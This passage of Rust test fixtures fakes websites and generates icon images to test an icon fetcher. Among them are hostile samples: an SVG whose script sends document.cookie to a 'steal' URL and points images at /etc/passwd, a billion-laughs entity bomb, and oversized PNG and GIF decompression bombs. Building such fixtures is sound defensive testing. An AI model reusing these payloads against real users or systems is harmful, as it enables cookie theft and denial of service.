<main><h1>Vector tooling for teams</h1><p>Draw once, ship everywhere.</p></main>
</body>
</html>
"##;

const MANIFEST_HTML: &str = r##"<!DOCTYPE html>
<html lang="en-GB">
<head>
    <meta charset="UTF-8">
    <base href="https://icons-manifest.com/static/">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Icons Manifest - Install our app</title>
    <meta name="description" content="A progressive web app for field teams.">
    <meta name="theme-color" content="#1E2A78">
    <link rel="manifest" href="site.webmanifest">
    <link rel="stylesheet" href="css/styles.min.css?v=4.2.0">
    <script src="js/vendor/jquery-3.7.1.min.js"></script>
    <script src="js/app.min.js?v=4.2.0" defer></script>
</head>
<body>
    <div id="app"><h1>Icons Manifest</h1><p>Install the app from your browser's menu.</p>
    <a href="../">Home</a> · <a href="help/">Help</a></div>
    <noscript>This app needs JavaScript.</noscript>
</body>
</html>
"##;

const MANIFEST_JSON: &str = r##"{
  "name": "Icons Manifest Field App",
  "short_name": "Icons Manifest",
  "description": "A progressive web app for field teams.",
  "start_url": "/?source=pwa",
  "scope": "/",
  "display": "standalone",
  "theme_color": "#1E2A78",
  "background_color": "#FFFFFF",
  "icons": [
    { "src": "icons/icon-48.png", "sizes": "48x48", "type": "image/png", "purpose": "any" },
    { "src": "icons/icon-192.png", "sizes": "192x192", "type": "image/png", "purpose": "any" },
    { "src": "icons/icon-512.png", "sizes": "512x512", "type": "image/png", "purpose": "any maskable" }
  ]
}
"##;

const OG_HTML: &str = r##"<!DOCTYPE html>
<html lang="en-US" prefix="og: https://ogp.me/ns#">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Icons OG &#8211; Consulting that ships</title>
<meta name="robots" content="index, follow, max-image-preview:large">
<link rel="canonical" href="https://icons-og.com/">
<meta property="og:locale" content="en_US">
<meta property="og:type" content="website">
<meta property="og:title" content="Icons OG &#8211; Consulting that ships">
<meta property="og:description" content="We help teams deliver.">
<meta property="og:url" content="https://icons-og.com/">
<meta property="og:site_name" content="Icons OG">
<meta property="og:image" content="https://icons-og.com/images/social-share.jpg">
<meta property="og:image:width" content="1200">
<meta property="og:image:height" content="630">
<meta property="og:image:type" content="image/jpeg">
<meta name="twitter:card" content="summary_large_image">
<link rel="stylesheet" id="theme-css" href="//icons-og.com/wp-content/themes/og/style.css?ver=6.5.2" media="all">
<script src="https://icons-og.com/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
</head>
<body class="home page-template-default">
<div id="page" class="site"><h1>Consulting that ships</h1></div>
<script src="https://icons-og.com/wp-content/themes/og/js/navigation.js?ver=1.0" id="og-navigation-js"></script>
</body>
</html>
"##;

const FAVICON_HTML: &str = r##"<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>Icons Favicon Hardware Co.</title>
<meta name="keywords" content="hardware, tools, fasteners">
<link href="/styles/site.css" rel="stylesheet" type="text/css">
<script type="text/javascript" src="/scripts/menu.js"></script>
</head>
<body bgcolor="#ffffff">
<table width="100%"><tr><td><h1>Icons Favicon Hardware Co.</h1><p>Since 1998. Call us for a quote.</p></td></tr></table>
</body>
</html>
"##;

const NONE_HTML: &str = r##"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Icons None</title>
<link rel="stylesheet" href="/style.css">
</head>
<body>
<h1>Icons None</h1>
<p>This page has no icons at all.</p>
</body>
</html>
"##;

const WWW_HTML: &str = r##"<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Icons WWW | Only on www</title>
  <link rel="apple-touch-icon" sizes="180x180" href="/apple-touch-icon.png">
  <link rel="stylesheet" href="https://www.icons-www.com/css/site.css">
  <script src="https://www.icons-www.com/js/site.js" defer></script>
</head>
<body><h1>Icons WWW</h1><p>Our apex domain has no website.</p></body>
</html>
"##;

const HOSTILE_HTML: &str = r##"<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Icons Hostile | Totally normal company</title>
  <meta name="description" content="Nothing to see here.">
  <link rel="apple-touch-icon" href="/apple-touch-icon.png">
  <link rel="icon" type="image/png" sizes="192x192" href="/icons/icon-192.png">
  <link rel="icon" type="image/svg+xml" href="/icons/logo-script.svg">
  <link rel="alternate icon" type="image/svg+xml" href="/icons/logo-laughs.svg">
  <link rel="icon" type="image/gif" sizes="64x64" href="/icons/spinner.gif">
  <link rel="manifest" href="/manifest.json">
  <meta property="og:image" content="https://icons-hostile.com/og/share.jpg">
  <link rel="stylesheet" href="/css/site.css">
  <script src="/js/site.js" defer></script>
</head>
<body><h1>Icons Hostile</h1><p>Every icon here is a trap except the favicon.</p></body>
</html>
"##;

const HOSTILE_MANIFEST: &str = r##"{
  "name": "Icons Hostile",
  "short_name": "Hostile",
  "start_url": "/",
  "display": "standalone",
  "icons": [
    { "src": "/icons/icon-512.jpg", "sizes": "512x512", "type": "image/jpeg", "purpose": "any" }
  ]
}
"##;

/// What `icons-hostile.com` serves as `image/png` at its 192 icon: an HTML error page.
pub const HTML_AS_IMAGE: &str = r##"<!DOCTYPE html>
<html>
<head><title>Attention Required! | Access denied</title>
<meta name="robots" content="noindex, nofollow"></head>
<body><div id="cf-wrapper"><h1>Sorry, you have been blocked</h1>
<p>This website is using a security service to protect itself from online attacks.</p>
<script>document.location.href = "https://icons-hostile.com/challenge";</script>
</div></body>
</html>
"##;

// ---------------------------------------------------------------------------------------------
// Images
// ---------------------------------------------------------------------------------------------

/// Deterministic image generators, and the generated assets (made once per process, lazily).
pub mod images {
    use std::io::Cursor;
    use std::sync::LazyLock;

    use image::codecs::ico::{IcoEncoder, IcoFrame};
    use image::codecs::jpeg::JpegEncoder;
    use image::codecs::png::PngEncoder;
    use image::{ExtendedColorType, ImageEncoder, Rgba, RgbaImage};

    use super::colors;

    /// An sRGB colour.
    pub type Rgb = [u8; 3];

    const WHITE: Rgb = [0xFF, 0xFF, 0xFF];

    /// A simple RGBA canvas that draws flat shapes.
    #[derive(Clone, Debug)]
    pub struct Canvas {
        image: RgbaImage,
    }

    impl Canvas {
        /// A `width`×`height` canvas filled with `background`, or transparent for `None`.
        pub fn new(width: u32, height: u32, background: Option<Rgb>) -> Self {
            let fill = background.map_or(Rgba([0, 0, 0, 0]), |[r, g, b]| Rgba([r, g, b, 255]));
            Self {
                image: RgbaImage::from_pixel(width, height, fill),
            }
        }

        /// Fill the pixels of the box `(x, y, w, h)` whose centre satisfies `inside`.
        fn fill(
            &mut self,
            color: Rgb,
            area: (f32, f32, f32, f32),
            inside: impl Fn(f32, f32) -> bool,
        ) {
            let [r, g, b] = color;
            let (x, y, w, h) = area;
            let clip = |from: f32, to: f32, limit: u32| {
                let from = from.floor().max(0.0).min(limit as f32) as u32;
                let to = to.ceil().max(0.0).min(limit as f32) as u32;
                from..to
            };
            for py in clip(y, y + h, self.image.height()) {
                for px in clip(x, x + w, self.image.width()) {
                    if inside(px as f32 + 0.5, py as f32 + 0.5) {
                        self.image.put_pixel(px, py, Rgba([r, g, b, 255]));
                    }
                }
            }
        }

        /// A rectangle with corners rounded by `radius`.
        pub fn round_rect(&mut self, x: f32, y: f32, w: f32, h: f32, radius: f32, color: Rgb) {
            let radius = radius.min(w / 2.0).min(h / 2.0).max(0.0);
            self.fill(color, (x, y, w, h), |px, py| {
                if px < x || py < y || px > x + w || py > y + h {
                    return false;
                }
                let nx = px.clamp(x + radius, x + w - radius);
                let ny = py.clamp(y + radius, y + h - radius);
                (px - nx).powi(2) + (py - ny).powi(2) <= radius.powi(2)
            });
        }

        /// A disc.
        pub fn circle(&mut self, cx: f32, cy: f32, radius: f32, color: Rgb) {
            let area = (cx - radius, cy - radius, radius * 2.0, radius * 2.0);
            self.fill(color, area, |px, py| {
                (px - cx).powi(2) + (py - cy).powi(2) <= radius.powi(2)
            });
        }

        /// The pixels.
        pub fn image(&self) -> &RgbaImage {
            &self.image
        }

        /// PNG bytes (RGBA).
        pub fn png(&self) -> Vec<u8> {
            let mut out = Vec::new();
            PngEncoder::new(&mut out)
                .write_image(
                    self.image.as_raw(),
                    self.image.width(),
                    self.image.height(),
                    ExtendedColorType::Rgba8,
                )
                .expect("encode PNG");
            out
        }

        /// JPEG bytes (transparent pixels become white).
        pub fn jpeg(&self, quality: u8) -> Vec<u8> {
            let rgb = image::RgbImage::from_fn(self.image.width(), self.image.height(), |x, y| {
                let Rgba([r, g, b, a]) = *self.image.get_pixel(x, y);
                if a == 0 {
                    image::Rgb(WHITE)
                } else {
                    image::Rgb([r, g, b])
                }
            });
            let mut out = Vec::new();
            JpegEncoder::new_with_quality(&mut out, quality)
                .encode_image(&rgb)
                .expect("encode JPEG");
            out
        }
    }

    /// A square app icon of `color`: opaque (full bleed, like iOS requires) or a rounded tile on
    /// transparency, with a small white ring in the middle (about 7% of the area).
    pub fn square_icon(size: u32, color: Rgb, opaque: bool) -> Canvas {
        let s = size as f32;
        let mut canvas = Canvas::new(size, size, opaque.then_some(color));
        if !opaque {
            canvas.round_rect(s * 0.04, s * 0.04, s * 0.92, s * 0.92, s * 0.2, color);
        }
        canvas.circle(s / 2.0, s / 2.0, s * 0.17, WHITE);
        canvas.circle(s / 2.0, s / 2.0, s * 0.1, color);
        canvas
    }

    /// A wide banner logo of `color` on transparency: a square mark and word-like bars.
    pub fn banner(width: u32, height: u32, color: Rgb) -> Canvas {
        let (w, h) = (width as f32, height as f32);
        let mut canvas = Canvas::new(width, height, None);
        let mark = h * 0.8;
        canvas.round_rect(h * 0.1, h * 0.1, mark, mark, mark * 0.18, color);
        canvas.circle(h * 0.1 + mark / 2.0, h / 2.0, mark * 0.16, WHITE);
        let mut x = h * 1.1;
        for (i, word) in [0.28_f32, 0.2, 0.24].iter().enumerate() {
            let bar = (w - h * 1.2) * word;
            let top = if i == 1 { h * 0.3 } else { h * 0.25 };
            canvas.round_rect(x, top, bar, h * 0.5, h * 0.12, color);
            x += bar + h * 0.2;
        }
        canvas
    }

    /// A flat "photo": `main` sky, an `accent` band at the bottom, a white sun.
    pub fn scene(width: u32, height: u32, main: Rgb, accent: Rgb) -> Canvas {
        let (w, h) = (width as f32, height as f32);
        let mut canvas = Canvas::new(width, height, Some(main));
        canvas.round_rect(-1.0, h * 0.78, w + 2.0, h * 0.3, 0.0, accent);
        canvas.circle(w * 0.8, h * 0.28, h * 0.1, WHITE);
        canvas
    }

    /// An ICO of PNG entries, one per `(size, color)`, each a [`square_icon`] on transparency.
    pub fn ico(entries: &[(u32, Rgb)]) -> Vec<u8> {
        let encoded: Vec<(u32, Vec<u8>)> = entries
            .iter()
            .map(|&(size, color)| (size, square_icon(size, color, false).png()))
            .collect();
        let frames: Vec<IcoFrame<'_>> = encoded
            .iter()
            .map(|(size, png)| {
                IcoFrame::with_encoded(png.as_slice(), *size, *size, ExtendedColorType::Rgba8)
                    .expect("ICO frame")
            })
            .collect();
        let mut out = Vec::new();
        IcoEncoder::new(&mut out)
            .encode_images(&frames)
            .expect("encode ICO");
        out
    }

    /// CRC-32 (IEEE), as PNG chunks use.
    pub fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xFFFF_FFFF_u32;
        for &byte in bytes {
            crc ^= u32::from(byte);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }

    fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&u32::try_from(data.len()).unwrap_or(0).to_be_bytes());
        let start = out.len();
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let crc = crc32(&out[start..]);
        out.extend_from_slice(&crc.to_be_bytes());
    }

    /// A PNG whose signature and IHDR (CRC included) declare `width`×`height` RGBA, followed by
    /// one IDAT holding the start of a zlib stream (a stored block of 1 KiB of zeros) and IEND:
    /// about 1.1 KiB, and decoding it would need width×height×4 bytes.
    pub fn png_declaring(width: u32, height: u32) -> Vec<u8> {
        let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
        let mut ihdr = Vec::with_capacity(13);
        ihdr.extend_from_slice(&width.to_be_bytes());
        ihdr.extend_from_slice(&height.to_be_bytes());
        ihdr.extend_from_slice(&[8, 6, 0, 0, 0]); // 8-bit RGBA, deflate, adaptive, no interlace
        png_chunk(&mut out, b"IHDR", &ihdr);
        let mut idat = vec![0x78, 0x01, 0x00]; // zlib header; stored, NOT final block
        let len: u16 = 1024;
        idat.extend_from_slice(&len.to_le_bytes());
        idat.extend_from_slice(&(!len).to_le_bytes());
        idat.extend(std::iter::repeat_n(0u8, usize::from(len)));
        png_chunk(&mut out, b"IDAT", &idat);
        png_chunk(&mut out, b"IEND", &[]);
        out
    }

    /// A real 240×240 JPEG cut inside its Huffman tables (after SOF, before any scan), so no
    /// decoder can produce pixels. (`image` decodes a JPEG cut inside its scan data, padding it.)
    pub fn truncated_jpeg() -> Vec<u8> {
        let full = square_icon(240, [0x33, 0x66, 0x99], true).jpeg(85);
        // Walk the marker segments; cut 10 bytes into the last DHT before SOS.
        let mut cut = full.len() / 8;
        let mut at = 2;
        while at + 4 <= full.len() && full[at] == 0xFF {
            let marker = full[at + 1];
            if marker == 0xDA {
                break;
            }
            if marker == 0xC4 {
                cut = at + 10;
            }
            at += 2 + usize::from(u16::from_be_bytes([full[at + 2], full[at + 3]]));
        }
        full[..cut].to_vec()
    }

    /// A GIF89a looping animation of `frames` 1×1 frames of [`colors::HOSTILE_GIF`] on a
    /// 65535×65535 logical screen. Every frame is valid; the canvas fails any sane image limit.
    pub fn gif_bomb(frames: usize) -> Vec<u8> {
        let [r, g, b] = colors::HOSTILE_GIF;
        let mut out = b"GIF89a".to_vec();
        out.extend_from_slice(&u16::MAX.to_le_bytes());
        out.extend_from_slice(&u16::MAX.to_le_bytes());
        out.extend_from_slice(&[0xF0, 0, 0]); // global colour table of 2 entries
        out.extend_from_slice(&[r, g, b, 0, 0, 0]);
        out.extend_from_slice(&[0x21, 0xFF, 0x0B]);
        out.extend_from_slice(b"NETSCAPE2.0");
        out.extend_from_slice(&[3, 1, 0, 0, 0]); // loop forever
        for _ in 0..frames {
            out.extend_from_slice(&[0x21, 0xF9, 4, 0, 1, 0, 0, 0]); // 10 ms per frame
            out.extend_from_slice(&[0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0]); // 1×1 at (0, 0)
            out.extend_from_slice(&[2, 2, 0x44, 1, 0]); // LZW: clear, index 0, end
        }
        out.push(0x3B);
        out
    }

    /// The `icons-svg.com` logo: clean teal shapes, viewBox `0 0 64 64`, no width or height.
    pub const SVG_LOGO: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64">
  <rect x="2" y="2" width="60" height="60" rx="14" fill="#0D9488"/>
  <circle cx="32" cy="32" r="13" fill="#FFFFFF"/>
  <path d="M32 24 L40 38 H24 Z" fill="#0D9488"/>
</svg>
"##;

    /// An SVG with a script and images pointing at local files, and nothing else to draw.
    pub const SCRIPT_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64" onload="fetch('https://icons-hostile.com/steal?c='+document.cookie)">
  <script type="text/javascript"><![CDATA[
    fetch("https://icons-hostile.com/steal?c=" + encodeURIComponent(document.cookie));
  ]]></script>
  <image href="file:///etc/passwd" x="0" y="0" width="64" height="64"/>
  <image xlink:href="file:///etc/passwd" x="0" y="0" width="64" height="64"/>
  <foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"></iframe></foreignObject>
</svg>
"##;

    /// The "billion laughs" entity expansion, in an SVG.
    pub const BILLION_LAUGHS_SVG: &str = r##"<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">
  <rect width="64" height="64" fill="#FF0000"/>
  <text x="0" y="32">&lol9;</text>
</svg>
"##;

    /// The generated images, each made once per process on first use.
    #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
    pub enum Asset {
        /// `icons-apple.com/apple-touch-icon.png`.
        AppleTouch,
        /// `icons-apple.com/favicon-32.png`.
        Apple32,
        /// `icons-apple.com/og.jpg`.
        AppleOg,
        /// `icons-apple.com/favicon.ico`.
        AppleFavicon,
        /// `icons-manifest.com` 48 icon.
        Manifest48,
        /// `icons-manifest.com` 192 icon.
        Manifest192,
        /// `icons-manifest.com` 512 icon.
        Manifest512,
        /// `icons-og.com` og:image.
        Og,
        /// `icons-favicon.com/favicon.ico`.
        Favicon,
        /// `www.icons-www.com/apple-touch-icon.png`.
        WwwAppleTouch,
        /// The PNG declaring 100000×100000.
        BombPng,
        /// The truncated JPEG.
        TruncatedJpeg,
        /// The 10 000-frame GIF.
        GifBomb,
        /// `icons-hostile.com/favicon.ico`.
        HostileFavicon,
        /// `icons-bigpage.com/late-icon.png`.
        BigpageLateIcon,
        /// `images.evil-cdn.com/logo.png`.
        EvilCdnLogo,
        /// Contoso's banner logo on the CDN (280×60, transparent).
        ContosoBanner,
        /// Contoso's square logo (240×240).
        ContosoTile,
        /// Contoso's square logo for dark themes (240×240, transparent).
        ContosoTileDark,
        /// Contoso's illustration (1920×1080 JPEG).
        ContosoIllustration,
        /// The GCC High agency's banner logo (280×60).
        GccHighBanner,
    }

    /// The bytes of `asset`.
    pub fn asset(asset: Asset) -> &'static [u8] {
        macro_rules! once {
            ($make:expr) => {{
                static BYTES: LazyLock<Vec<u8>> = LazyLock::new(|| $make);
                BYTES.as_slice()
            }};
        }
        use super::super::fake_microsoft as ms;
        match asset {
            Asset::AppleTouch => once!(square_icon(180, colors::APPLE_TOUCH, true).png()),
            Asset::Apple32 => once!(square_icon(32, colors::APPLE_ICON_32, false).png()),
            Asset::AppleOg => {
                once!(scene(1200, 630, colors::APPLE_OG, [0x5A, 0x2D, 0x0C]).jpeg(80))
            }
            Asset::AppleFavicon => {
                once!(ico(&[
                    (16, colors::APPLE_FAVICON),
                    (32, colors::APPLE_FAVICON)
                ]))
            }
            Asset::Manifest48 => once!(square_icon(48, colors::MANIFEST_48, true).png()),
            Asset::Manifest192 => once!(square_icon(192, colors::MANIFEST_LARGE, true).png()),
            Asset::Manifest512 => once!(square_icon(512, colors::MANIFEST_LARGE, true).png()),
            Asset::Og => once!(scene(1200, 630, colors::OG, [0x2B, 0x2B, 0x2B]).jpeg(80)),
            Asset::Favicon => once!(ico(&[
                (16, colors::FAVICON_SMALL),
                (32, colors::FAVICON_SMALL),
                (48, colors::FAVICON_48),
            ])),
            Asset::WwwAppleTouch => once!(square_icon(180, colors::WWW_APPLE_TOUCH, true).png()),
            Asset::BombPng => once!(png_declaring(
                super::BOMB_PNG_SIZE.0,
                super::BOMB_PNG_SIZE.1
            )),
            Asset::TruncatedJpeg => once!(truncated_jpeg()),
            Asset::GifBomb => once!(gif_bomb(super::GIF_FRAMES)),
            Asset::HostileFavicon => {
                once!(ico(&[
                    (16, colors::HOSTILE_FAVICON),
                    (32, colors::HOSTILE_FAVICON)
                ]))
            }
            Asset::BigpageLateIcon => {
                once!(square_icon(192, colors::BIGPAGE_LATE_ICON, true).png())
            }
            Asset::EvilCdnLogo => once!(banner(280, 60, colors::EVIL_CDN).png()),
            Asset::ContosoBanner => once!(banner(280, 60, ms::CONTOSO_BANNER_LOGO_COLOR).png()),
            Asset::ContosoTile => once!(square_icon(240, ms::CONTOSO_TILE_LOGO_COLOR, true).png()),
            Asset::ContosoTileDark => {
                once!(square_icon(240, ms::CONTOSO_TILE_DARK_LOGO_COLOR, false).png())
            }
            Asset::ContosoIllustration => once!(
                scene(
                    1920,
                    1080,
                    ms::CONTOSO_ILLUSTRATION_COLOR,
                    [0x2E, 0x6B, 0x3A]
                )
                .jpeg(80)
            ),
            Asset::GccHighBanner => once!(banner(280, 60, ms::GCC_HIGH_BANNER_LOGO_COLOR).png()),
        }
    }

    /// Make every asset now (blocking; about a second in debug builds) rather than on first use.
    pub fn warm_up() {
        for asset in [
            Asset::AppleTouch,
            Asset::Apple32,
            Asset::AppleOg,
            Asset::AppleFavicon,
            Asset::Manifest48,
            Asset::Manifest192,
            Asset::Manifest512,
            Asset::Og,
            Asset::Favicon,
            Asset::WwwAppleTouch,
            Asset::BombPng,
            Asset::TruncatedJpeg,
            Asset::GifBomb,
            Asset::HostileFavicon,
            Asset::BigpageLateIcon,
            Asset::EvilCdnLogo,
            Asset::ContosoBanner,
            Asset::ContosoTile,
            Asset::ContosoTileDark,
            Asset::ContosoIllustration,
            Asset::GccHighBanner,
        ] {
            let _ = self::asset(asset);
        }
    }

    /// Decode `bytes` (format sniffed) with `image`'s default limits: for tests of the fakes.
    pub fn decode(bytes: &[u8]) -> image::ImageResult<image::DynamicImage> {
        image::ImageReader::new(Cursor::new(bytes))
            .with_guessed_format()
            .map_err(image::ImageError::IoError)?
            .decode()
    }

    /// The most frequent opaque colour of `image` (alpha > 127), each channel rounded to 8 levels
    /// apart so JPEG noise does not split a flat area.
    pub fn dominant_color(image: &image::DynamicImage) -> Option<Rgb> {
        let mut counts = std::collections::HashMap::<Rgb, (usize, [u64; 3])>::new();
        let rgba = image.to_rgba8();
        // About 64k samples are plenty for flat images, and fast in debug builds.
        let stride = (rgba.len() / 4 / 65_536).max(1);
        for Rgba([r, g, b, a]) in rgba.pixels().step_by(stride).copied() {
            if a <= 127 {
                continue;
            }
            let key = [r / 8, g / 8, b / 8];
            let entry = counts.entry(key).or_default();
            entry.0 += 1;
            entry.1[0] += u64::from(r);
            entry.1[1] += u64::from(g);
            entry.1[2] += u64::from(b);
        }
        let (_, (count, sums)) = counts.into_iter().max_by_key(|(_, (count, _))| *count)?;
        let count = count as u64;
        let channel = |sum: u64| u8::try_from(sum / count).unwrap_or(u8::MAX);
        Some([channel(sums[0]), channel(sums[1]), channel(sums[2])])
    }

    /// Whether two colours are within `tolerance` on every channel.
    pub fn close(a: Rgb, b: Rgb, tolerance: u8) -> bool {
        a.iter().zip(b).all(|(x, y)| x.abs_diff(y) <= tolerance)
    }
}
